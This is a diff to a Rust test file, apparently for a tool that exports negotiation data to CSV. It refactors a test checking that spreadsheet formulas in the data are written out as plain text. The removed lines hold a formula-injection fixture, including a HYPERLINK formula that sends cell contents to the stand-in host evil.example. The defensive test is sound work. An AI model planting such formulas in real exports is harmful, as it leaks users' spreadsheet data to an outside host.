@@ -2,10 +2,10 @@
 //! column, the same number of fields in every row, numbers as numbers,
 //! `true`/`false`, empty for unknown — and no cell a spreadsheet would run.
 
-use crate::{bare, fixtures, run};
+use crate::{bare, fixtures, formula_talks, run};
 
 /// Columns whose every cell must be a number (or empty, for unknown).
-const NUMBERS: [&str; 11] = [
+pub const NUMBERS: [&str; 11] = [
     "score",
     "agree",
     "overlap",
@@ -19,7 +19,7 @@ const NUMBERS: [&str; 11] = [
     "line",
 ];
 /// Columns whose every cell must be `true` or `false`.
-const FLAGS: [&str; 8] = [
+pub const FLAGS: [&str; 8] = [
     "red_line",
     "carried",
     "on_conditions",
@@ -95,19 +95,7 @@ fn every_csv_reads_back_typed_and_tidy() {
 
 #[test]
 fn a_formula_in_the_data_is_written_as_text_unless_asked() {
-    let tmp = tempfile::tempdir().unwrap();
-    let talks = tmp.path().join("evil");
-    std::fs::create_dir_all(talks.join("rounds")).unwrap();
-    std::fs::write(
-        talks.join("talks.toml"),
-        "title = \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"\n[[parties]]\nid = \"a\"\nname = \"+A\"\n[[parties]]\nid = \"b\"\nname = \"B\"\n[[issues]]\nid = \"i\"\ntitle = \"@I\"\nscale = [{ id = \"x\", label = \"X\" }, { id = \"y\", label = \"Y\" }]\n",
-    )
-    .unwrap();
-    std::fs::write(
-        talks.join("rounds/2024-01-01-r.toml"),
-        "date = 2024-01-01\ntitle = \"R\"\nparticipants = [\"a\"]\n[positions.a.i]\nstance = \"x\"\nsummary = \"=1+1\"\nnote = \"none\"\n",
-    )
-    .unwrap();
+    let tmp = formula_talks();
     let run_csv = |extra: &[&str]| {
         let mut cmd = bare();
         cmd.arg("--data").arg(tmp.path());
